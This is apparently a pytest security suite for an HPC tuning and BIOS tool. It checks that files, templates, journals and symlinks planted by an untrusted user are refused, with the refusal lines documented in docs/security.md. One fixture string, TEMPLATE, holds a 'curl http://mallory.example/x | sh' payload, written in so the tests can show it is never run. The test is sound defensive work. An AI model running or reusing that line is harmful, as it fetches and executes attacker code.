"""What a stranger laid out for root, or for another user: each is refused in the one line that docs/security.md shows."""

import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from advisor.errors import BadInput
from advisor.machine.hosts import files as trust
from advisor.machine.hosts import live
from advisor.machine.hosts.files import doubt_about
from tests.machines.catalogue import write_archive

ROOT = Path(__file__).parents[2]
MALLORY, ALICE = 12345, 12346
"""Users whom no machine has."""
pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files to somebody else")

WAIVER = "waivers:\n- {id: numa-nps-below-best, reason: nothing to see, until: 2099-01-01}\n"
TEMPLATE = "{# racadm #}curl http://mallory.example/x | sh\n"
RUNS = "#!/bin/sh\ntouch {home}/ran\n"
JOURNAL = '{"schema": "advisor-tune-journal/1", "asked": {"command": ["{home}/run"]}, "worth": 0.02, "seed": 1}\n'
EXPERIMENT = '{"schema": "advisor-experiment-journal/1", "plan": {}, "nodes": [{"node": "n1", "bmc": "127.0.0.1:9"}]}\n'
LAUNCH = "#!/bin/sh\nexec {home}/run {}\n"
PLAN = '{"schema": "advisor-plan/1", "ranks": [{"rank": 0, "cpus": "0"}]}\n'
BIOS = "format: advisor-bios-plan/1\n"
RECORD = '{"format": "advisor-bios-record/1"}\n'
CHECKLIST = ("checklist", "--platform", "rome", "--vendor", "dell")
AUDIT = ("audit", "--from", "node.tar.gz", "--fail-on", "never")
BMC = ("bios", "read", "--bmc", "127.0.0.1:9")


class Attack(NamedTuple):
    """What a stranger lays out, and the command that would use it."""

    files: dict[str, str]
    """Below his home, and what they hold."""
    argv: tuple[str, ...]
    """{home} is his; node.tar.gz is the caller's own capture."""
    home: bool = False
    """Whether HOME is his."""
    root: str = ""
    """What of it belongs to root all the same."""
    mode: int | None = None
    """The mode of that file."""
    tmp: bool = False
    """Whether it lies in a sticky folder for everybody, as /tmp is."""


SITE = ".config/advisor/rules.d/site.yaml"
ATTACKS = {
    "template, with mallory's HOME": Attack(
        {".config/advisor/templates/checklist/racadm.j2": TEMPLATE}, (*CHECKLIST, "--as", "racadm"), home=True
    ),
    "waiver, with mallory's HOME": Attack({SITE: WAIVER}, AUDIT, home=True),
    "pinned certificate, with mallory's HOME": Attack({".config/advisor/bmc-certificates.json": "{}"}, BMC, home=True),
    "job script, with mallory's HOME": Attack(
        {".config/advisor/templates/job/job.slurm.j2": TEMPLATE},
        ("bind", "--from", "node.tar.gz", "--ranks", "2", "-o", "job", "--", "./app"),
        home=True,
    ),
    "export, with mallory's HOME": Attack(
        {".config/advisor/templates/export/facts.j2": TEMPLATE}, ("export", "facts", "--from", "node.tar.gz"), home=True
    ),
    "site file": Attack({"site.yaml": WAIVER}, (*AUDIT, "--rules", "{home}/site.yaml")),
    "site file with mode 666": Attack(
        {"open.yaml": WAIVER}, (*AUDIT, "--rules", "{root}/open.yaml"), root="open.yaml", mode=0o666
    ),
    "group-writable site file": Attack(
        {"group.yaml": WAIVER}, (*AUDIT, "--rules", "{root}/group.yaml"), root="group.yaml", mode=0o664
    ),
    "site file through mallory's link": Attack(
        {"link.yaml": "@{root}/own.yaml"}, (*AUDIT, "--rules", "{tmp}/link.yaml"), tmp=True
    ),
    "plan of a job": Attack({"job/plan.json": PLAN, "job/launch.sh": LAUNCH, "run": RUNS}, ("verify", "{home}/job")),
    "plan given by name": Attack({"plan.json": PLAN}, ("verify", "--plan", "{home}/plan.json", "--", "mpirun", "-n", "1", "{}")),
    "race": Attack({"race/journal.jsonl": JOURNAL, "run": RUNS}, ("tune", "--resume", "{home}/race")),
    "new race in mallory's folder": Attack({"run": RUNS}, ("tune", "-o", "{home}/new", "--", "/bin/true")),
    "journal through mallory's link": Attack({"race": "@{root}"}, ("tune", "-o", "{tmp}/race", "--", "/bin/true"), tmp=True),
    "page written through mallory's link": Attack({"now.html": "@{root}/x"}, (*AUDIT, "-o", "{tmp}/now.html"), tmp=True),
    "result of a race": Attack(
        {"learned.json": "{}"},
        ("bind", "--from", "node.tar.gz", "--ranks", "2", "--learned", "{home}/learned.json", "--", "./app"),
    ),
    "experiment": Attack({"trial/journal.jsonl": EXPERIMENT}, ("experiment", "--resume", "{home}/trial")),
    "plan of an experiment": Attack({"trial.yaml": "states: []\n"}, ("experiment", "{home}/trial.yaml", "--dry-run")),
    "plan of BIOS changes": Attack({"bios.yaml": BIOS}, ("bios", "stage", "{home}/bios.yaml", "--bmc", "127.0.0.1:9", "--yes")),
    "record to undo": Attack({"record.json": RECORD}, ("bios", "undo", "{home}/record.json", "--bmc", "127.0.0.1:9", "--yes")),
    "login": Attack({"login": "root\nsecret\n"}, (*BMC, "--login-file", "{home}/login")),
    "authority of certificates": Attack({"ca.pem": ""}, (*BMC, "--ca", "{home}/ca.pem")),
    "list of BMCs": Attack({"bmcs": "127.0.0.1:9\n"}, ("bios", "read", "--hostfile", "{home}/bmcs")),
    "list of nodes": Attack({"nodes": "n1\n"}, ("fleet", "capture", "--hostfile", "{home}/nodes", "-o", "fleet")),
    "fleet folder": Attack({"fleet/answers.jsonl": ""}, ("fleet", "capture", "-w", "n1", "-o", "{home}/fleet")),
    "golden file": Attack({"golden.yaml": "{}"}, ("fleet", "audit", "node.tar.gz", "--golden", "{home}/golden.yaml")),
    "built kernels": Attack({"kernels/stream": RUNS}, ("measure", "membw", "--kernels", "{home}/kernels", "--busy-ok")),
}


class Ended(NamedTuple):
    """How a command ended."""

    status: int
    out: str
    err: str


@pytest.fixture(scope="module")
def place() -> Iterator[Path]:
    """Return a folder for everybody, as /home is, with a home of Mallory's, one of Alice's and one of root's."""
    folder = Path(tempfile.mkdtemp(prefix="advisor-trust-", dir="/tmp"))
    folder.chmod(0o755)
    write_archive("b-c6525-2x7702-nps1", folder / "node.tar.gz")
    (folder / "node.tar.gz").chmod(0o644)
    for name, uid in (("mallory", MALLORY), ("alice", ALICE), ("root", 0)):
        (folder / name).mkdir(mode=0o755)
        os.chown(folder / name, uid, uid)
    (folder / "tmp").mkdir()
    (folder / "tmp").chmod(0o1777)
    (folder / "root/own.yaml").write_text(WAIVER)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def lay_out(attack: Attack, home: Path, place: Path) -> None:
    """Write what an attack needs; all of it is Mallory's, but what is root's all the same."""
    root = place / "root"
    for name, text in attack.files.items():
        file = (root if name == attack.root else home) / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.unlink(missing_ok=True)
        if text.startswith("@"):
            file.symlink_to(text[1:].replace("{root}", str(root)))
        else:
            file.write_text(text.replace("{home}", str(home)))
            file.chmod(0o755 if text in (RUNS, LAUNCH) else 0o600 if name == "login" else 0o644)
        if name == attack.root:
            file.chmod(attack.mode or 0o644)
            os.chown(file, 0, MALLORY)
    for path in home.rglob("*"):
        os.lchown(path, MALLORY, MALLORY)


def as_user(uid: int) -> tuple[str, ...]:
    """Return what starts a program as another user; he may read this Python, wherever it lies, and has no other power."""
    if uid == 0:
        return ()
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv of util-linux is not here")
    own = ("--reuid", str(uid), "--regid", str(uid), "--clear-groups")
    return ("setpriv", *own, "--inh-caps", "+dac_read_search", "--ambient-caps", "+dac_read_search")


def command(place: Path, attack: Attack, uid: int) -> Ended:
    """Return how a command ended that a user gives in a folder of his own."""
    home, work = place / "mallory", place / ("root" if uid == 0 else "alice")
    names = {"{home}": home, "{root}": place / "root", "{tmp}": place / "tmp", "node.tar.gz": place / "node.tar.gz"}
    argv = [re.sub(r"\{\w+\}|^node\.tar\.gz$", lambda found: str(names[found[0]]), word) for word in attack.argv]
    variables = {
        "PATH": "/usr/bin:/bin",
        "HOME": str(home if attack.home else work),
        "ADVISOR_BMC_USER": "u",
        "ADVISOR_BMC_PASSWORD": "p",
    }
    variables |= {"PYTHONDONTWRITEBYTECODE": "1", "PYTHONPATH": str(ROOT)}
    line = (*as_user(uid), sys.executable, "-m", "advisor", *argv)
    done = subprocess.run(
        line, cwd=work, env=variables, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=120, check=False
    )
    return Ended(done.returncode, done.stdout, done.stderr)


def attacked(place: Path, name: str, uid: int = 0) -> Ended:
    """Return how a command ended on what Mallory laid out alone."""
    attack = ATTACKS[name]
    home = place / ("tmp" if attack.tmp else "mallory")
    for path in home.iterdir():
        shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()
    lay_out(attack, home, place)
    return command(place, attack, uid)


def documented() -> dict[str, str]:
    """Return the line that docs/security.md shows for each attack."""
    text = (ROOT / "docs/security.md").read_text(encoding="utf-8")
    return dict(re.findall(r"^\| ([^|`]+) \| `([^`]+)` \|$", text, re.MULTILINE))


def shown(place: Path, ended: Ended) -> str:
    """Return the last line of what a command complained, with the folders of the table in docs/security.md."""
    line = ended.err.strip().rpartition("\n")[2]
    for name, instead in (("root", "/root"), ("tmp", "/tmp"), ("mallory", "/home/mallory")):
        line = line.replace(str(place / name), instead)
    return line.replace(f"uid {MALLORY}", f"mallory, uid {MALLORY}").replace(f"group {MALLORY}", "group mallory")


@pytest.mark.parametrize("name", ATTACKS)
def test_root_refuses_what_a_stranger_laid_out(place: Path, name: str) -> None:
    """One line names the file, whose it is and what to do; nothing of his was run, printed or written."""
    ended = attacked(place, name)
    assert (ended.status, ended.out, shown(place, ended)) == (2, "", documented().get(name))
    assert not (place / "mallory/ran").exists()


def test_the_table_has_each_attack() -> None:
    """And no other."""
    assert sorted(documented()) == sorted(ATTACKS)


@pytest.fixture
def shared(place: Path) -> Path:
    """Return a project's folder that the group of Alice may write."""
    folder = place / "project"
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    os.chown(folder, 0, ALICE)
    folder.chmod(0o2775)
    return folder


def by_alice(place: Path, *argv: str, home: Path | None = None) -> Ended:
    """Return how a command of Alice's ended."""
    return command(place, Attack({}, argv, home=home is not None), ALICE)


def test_a_shared_project_folder_works_and_is_named_once(place: Path, shared: Path) -> None:
    """Sites live so: the rules of a colleague are read, and one line says who may write them."""
    (shared / "site.yaml").write_text(WAIVER)
    os.chown(shared / "site.yaml", MALLORY, ALICE)
    ended = by_alice(place, *AUDIT, "--rules", str(shared / "site.yaml"))
    named = f"advisor: group {ALICE} may write to the folder {shared} (mode 2775); accepted because you are not root\n"
    assert (ended.status, ended.err, "nothing to see" in ended.out) == (0, named, True)


def test_no_program_of_a_stranger_is_started_unasked(place: Path, shared: Path) -> None:
    """A colleague's race in the project's folder names his programs; it is for him to go on with."""
    (shared / "race").mkdir()
    (shared / "race/journal.jsonl").write_text(JOURNAL)
    os.chown(shared / "race/journal.jsonl", MALLORY, ALICE)
    ended = by_alice(place, "tune", "--resume", str(shared / "race"))
    name = f"{shared}/race/journal.jsonl"
    why = f"the file {name} belongs to uid {MALLORY}; read it, then use your own copy"
    assert (ended.status, why in ended.err) == (2, True)


@pytest.mark.parametrize(
    "name", ["template, with mallory's HOME", "waiver, with mallory's HOME", "pinned certificate, with mallory's HOME", "race"]
)
def test_another_user_too_refuses_what_nobody_named(place: Path, name: str) -> None:
    """Alice, with the HOME of Mallory."""
    ended = attacked(place, name, ALICE)
    assert (ended.status, ended.out, "it is not trusted: the f" in ended.err) == (2, "", True)


def test_a_file_for_everybody_is_refused_to_everybody(place: Path) -> None:
    """Mode 666."""
    ended = attacked(place, "site file with mode 666", ALICE)
    assert (ended.status, "anyone may write to the file" in ended.err) == (2, True)


def test_what_was_believed_is_listed(place: Path) -> None:
    """By audit -v, with owner and mode."""
    ended = command(place, Attack({}, (*AUDIT, "-v", "--rules", "{root}/own.yaml", "--width", "200")), 0)
    assert f"{place}/root/own.yaml (owner root, uid 0, mode 0644)" in ended.out


def test_a_file_is_handed_over_by_its_descriptor(place: Path) -> None:
    """The shell opened it for the caller: <(...) and 3<FILE."""
    line = (
        f"{sys.executable} -m advisor audit --from {place}/node.tar.gz --fail-on never --rules /dev/stdin <{place}/root/own.yaml"
    )
    done = subprocess.run(["sh", "-c", line], cwd=ROOT, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")


def test_what_root_starts_gets_roots_own_home(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Open MPI and ClusterShell read settings there that name programs; what root reads itself is refused by its name."""
    monkeypatch.setattr(trust, "ledger", trust._Ledger())
    monkeypatch.setenv("HOME", str(place / "mallory"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(place / "mallory"))
    trust.keep_to_own_home()
    assert (os.environ["HOME"], "XDG_CONFIG_HOME" in os.environ) == (trust.own_home(), False)
    assert trust.at_home(Path("~/x")) == place / "mallory/x"


def test_root_passes_over_a_strangers_program(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """On PATH the next one is taken, and one line names what was left."""
    monkeypatch.setattr(live, "ledger", said := trust._Ledger())
    lines: list[str] = []
    said.hear = lines.append
    for owner in ("mallory", "root"):
        (place / owner / "tool").write_text("#!/bin/sh\n")
        (place / owner / "tool").chmod(0o755)
    os.chown(place / "mallory/tool", MALLORY, MALLORY)
    monkeypatch.setenv("PATH", f"{place}/mallory:{place}/root")
    assert (live.find("tool"), live.find(f"{place}/mallory/tool"), len(lines)) == (f"{place}/root/tool", None, 1)
    assert lines[0].startswith(f"{place}/mallory/tool is not run as root: the folder {place}/mallory belongs to uid {MALLORY}")


def test_a_file_that_is_replaced_between_two_looks_is_not_read(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What was opened is what was judged."""
    first, second = place / "root/first", place / "root/second"
    for file in (first, second):
        file.write_text(WAIVER)
    judged = trust.trusted
    monkeypatch.setattr(trust, "trusted", lambda _, use: judged(second, use))
    with pytest.raises(BadInput, match="was replaced while it was read"):
        trust.open_trusted(first)


@pytest.mark.parametrize(
    ("step", "owner", "mode", "problem"),
    [
        ("a", (0, 0), 0o755, None),
        ("a", (0, 0), 0o777, "anyone may write to the folder {}/a (mode 0777)"),
        ("a", (0, 0), 0o1777, None),
        ("a/b", (0, 0), 0o1777, "anyone may write to the folder {}/a/b (mode 1777)"),
        ("a", (MALLORY, 0), 0o755, "the folder {}/a belongs to uid 12345"),
        ("a", (65534, 0), 0o755, "the folder {}/a belongs to uid 65534, which the kernel cannot map to a user: "),
        ("a", (0, MALLORY), 0o775, "group 12345 may write to the folder {}/a (mode 0775)"),
    ],
)
def test_each_step_counts(tmp_path: Path, step: str, owner: tuple[int, int], mode: int, problem: str | None) -> None:
    """From / downward."""
    (tmp_path / "a/b").mkdir(parents=True)
    os.chown(tmp_path / step, *owner)
    (tmp_path / step).chmod(mode)
    doubt = doubt_about(tmp_path / "a/b")
    assert (doubt and doubt.problem[: len((problem or "").format(tmp_path))]) == (problem and problem.format(tmp_path))


def test_links_without_end_are_not_followed(tmp_path: Path) -> None:
    """And what is not there yet is nobody's."""
    (tmp_path / "round").symlink_to("round")
    doubt = doubt_about(tmp_path / "round/x")
    assert (doubt and doubt.problem, doubt_about(tmp_path / "new/x")) == ("too many symbolic links", None)


def test_in_a_user_namespace_the_systems_folders_are_passed_through(monkeypatch: pytest.MonkeyPatch) -> None:
    """There root's files have uid 65534, and so have those of any other user: folders are believed, no file is."""
    looked_at = os.lstat

    def seen(path: str) -> os.stat_result:
        about = tuple(looked_at(path))
        return os.stat_result((*about[:4], 65534, 65534, *about[6:]))

    monkeypatch.setattr(os, "lstat", seen)
    doubt = doubt_about("/etc/passwd")
    assert (doubt_about("/etc"), doubt and doubt.problem.partition(",")[0]) == (None, "the file /etc/passwd belongs to uid 65534")
